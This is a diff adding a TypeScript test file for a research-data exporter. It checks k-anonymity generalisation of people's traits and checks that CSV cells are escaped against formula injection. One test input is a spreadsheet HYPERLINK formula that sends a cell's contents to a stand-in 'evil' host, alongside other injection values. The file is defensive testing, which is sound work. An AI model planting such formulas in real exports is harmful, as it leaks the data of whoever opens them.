@@ -1,0 +1,60 @@
+import { csvText } from './csv.js';
+import { researchTable } from './research-people.js';
+import type { ResearchPerson } from './research-people.js';
+
+const crowd = (count: number): ResearchPerson[] =>
+  Array.from({ length: count }, (_, n) => ({
+    pseudonym: `p${String(n).padStart(3, '0')}`,
+    age: 30 + (n % 40),
+    sex: n % 2 ? 'female' : 'male',
+    region: n % 3 ? 'Europe' : 'Asia',
+    conditions: n % 2 ? ['hypertension'] : [],
+  }));
+
+describe('the people of a research file', () => {
+  it('are told by ranges that at least ten share', () => {
+    const { rows } = researchTable(crowd(200), { k: 10, l: 2 });
+    expect(rows).toHaveLength(200);
+    const alike = new Map<string, number>();
+    for (const [, , ...traits] of rows) {
+      const key = traits.slice(0, 3).join('|');
+      alike.set(key, (alike.get(key) ?? 0) + 1);
+    }
+    expect(Math.min(...alike.values())).toBeGreaterThanOrEqual(10);
+    expect(alike.size).toBeGreaterThan(3);
+  });
+
+  it('are not told by a great age, a rare disease or a rare place (H117)', () => {
+    const rare: ResearchPerson = {
+      pseudonym: 'rare',
+      age: 97,
+      sex: 'unspecified',
+      region: 'Arctic',
+      conditions: ['heart-transplant'],
+    };
+    const { rows } = researchTable([...crowd(200), rare], { k: 10, l: 2 });
+    const text = csvText(rows);
+    expect(rows.map(([, , age]) => age).join()).not.toContain('97');
+    expect(text).not.toContain('heart-transplant');
+    const own = rows.find(([pseudonym]) => pseudonym === 'rare')!;
+    expect(
+      rows.filter((row) => row.slice(2, 5).join() === own.slice(2, 5).join()).length,
+    ).toBeGreaterThanOrEqual(10);
+    expect(own[5]).toBe('other');
+  });
+});
+
+describe('a cell of a CSV', () => {
+  it.each([
+    ['=HYPERLINK("http://evil?"&A1)', `"'=HYPERLINK(""http://evil?""&A1)"`],
+    ['+cmd', `'+cmd`],
+    ['@SUM', `'@SUM`],
+    ['-1+1', `'-1+1`],
+    ['\t=1', `'\t=1`],
+    ['a,b', '"a,b"'],
+    ['plain', 'plain'],
+  ])('%j opens as text (H080)', (value, expected) => expect(csvText([[value]])).toBe(`${expected}\r\n`));
+
+  it('is a number where it is one, and empty where nothing is known', () =>
+    expect(csvText([[-1.5, null]])).toBe('-1.5,\r\n'));
+});
